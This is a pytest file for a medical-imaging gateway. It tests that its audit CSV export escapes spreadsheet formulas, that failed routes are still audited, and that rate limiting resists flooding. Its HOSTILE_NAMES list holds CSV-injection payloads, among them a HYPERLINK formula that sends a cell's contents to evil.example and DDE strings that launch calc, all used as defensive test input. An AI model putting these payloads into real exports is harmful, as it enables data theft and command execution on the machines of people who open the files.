"""Finding 8: the audit CSV export neutralises spreadsheet formulas (OWASP CSV injection), and a route
that fails with an unhandled error is still audited (outcome `failed`). The gateway runs in process
against the real Orthanc."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from glioscope_common.dev.orthanc import LocalOrthanc
from glioscope_gateway.audit.service import csv_cell
from glioscope_gateway.main import create_app

from .conftest import gw

pytestmark = pytest.mark.services

SERVICE_TOKEN = "audit-findings-service-token-0123456789abcdef"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                 "  =1+1", "\t=1", "\r=1", " \t @x"]


@pytest.fixture()
def gateway(tmp_path: Path, orthanc: LocalOrthanc) -> Iterator[TestClient]:
    # Orthanc's URLs and, where it asks for them, its credentials.
    values = {**getattr(orthanc, "settings_values", {}), "service_token": SERVICE_TOKEN}
    settings = gw.gateway_settings(tmp_path, orthanc, **values)
    with TestClient(create_app(settings), headers={"x-api-key": gw.SERVICE_KEY}) as client:
        yield client


def admin_headers(gateway: TestClient) -> dict[str, str]:
    return gw.bearer(gw.sign_in(gateway, gw.ADMIN_USERNAME, gw.ADMIN_PASSWORD)["access_token"])


def test_csv_cell_escapes_formula_starts() -> None:
    for text in HOSTILE_NAMES:
        assert csv_cell(text) == "'" + text
    for text in ("root-admin", "1.2.840.10008.1", "ok", "2026-12-03T10:00:00+00:00", "a=b", "x-y"):
        assert csv_cell(text) == text
    assert csv_cell(None) == "" and csv_cell(42) == "42"


def test_the_csv_export_neutralises_formulas(gateway: TestClient) -> None:
    """Usernames tried at sign-in and a client-chosen X-Request-ID reach the log unchanged; in the CSV
    every cell that a spreadsheet would evaluate starts with an apostrophe."""
    for name in HOSTILE_NAMES:
        response = gateway.post("/api/auth/token", data={"username": name, "password": "wrong-password-123"},
                                headers={"x-api-key": "", "x-request-id": "=cmd|' /C calc'!A0"})
        assert response.status_code == 401, response.text
    headers = admin_headers(gateway)
    logged = {e["actor"] for e in gateway.get("/api/admin/audit", params={"action": "failed_sign_in"},
                                               headers=headers).json()}
    assert set(HOSTILE_NAMES) <= logged  # the JSON API keeps the values as they are

    export = gateway.get("/api/admin/audit/export", headers=headers)
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text, newline="")))
    assert rows[0][:3] == ["id", "at", "actor"]
    actors = [row[2] for row in rows[1:]]
    for name in HOSTILE_NAMES:
        assert "'" + name in actors, (name, actors)
    request_ids = [row[7] for row in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in request_ids
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START) and not cell.lstrip().startswith(FORMULA_START), row


def test_an_unhandled_error_in_a_route_is_audited(gateway: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """A study route that raises an unexpected exception answers 500 (JSON, security headers) and the
    access is on record as `failed`, with the action and study the route declared."""
    def broken(*args: object, **kwargs: object) -> object:
        raise RuntimeError("simulated bug")

    monkeypatch.setattr(gateway.app.state.container.studies, "get", broken)  # type: ignore[attr-defined]
    uid = "1.2.826.0.1.3680043.8.498.1234567890"
    response = gateway.get(f"/api/studies/{uid}", headers={"x-request-id": "unhandled-error-request"})
    assert response.status_code == 500
    body = response.json()
    assert body["error"] == "internal_error" and "simulated bug" not in response.text
    assert response.headers["x-request-id"] == "unhandled-error-request"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"

    events = gateway.get("/api/admin/audit", params={"study": uid}, headers=admin_headers(gateway)).json()
    assert [(e["action"], e["outcome"], e["request_id"]) for e in events] == [
        ("viewed", "failed", "unhandled-error-request")]
    assert events[0]["actor"].startswith("key:")  # the service key that called
    # The gateway still answers.
    monkeypatch.undo()
    assert gateway.get(f"/api/studies/{uid}").status_code == 404


def test_flooding_the_limiter_with_new_keys_does_not_reset_a_limited_one() -> None:
    """The in-process bucket bounds its memory; it used to forget every bucket at the bound, so
    cycling through new usernames or addresses gave a limited account its burst back."""
    from glioscope_gateway.auth.errors import RateLimited
    from glioscope_gateway.auth.ratelimit import TokenBucket

    bucket = TokenBucket("sign-in", rate_per_min=0.001, burst=3, max_keys=100)
    for _ in range(3):
        bucket.hit("victim")
    with pytest.raises(RateLimited):
        bucket.hit("victim")
    for n in range(1000):
        bucket.hit(f"flood-{n}")
    with pytest.raises(RateLimited):
        bucket.hit("victim")
    assert len(bucket._buckets) <= 100
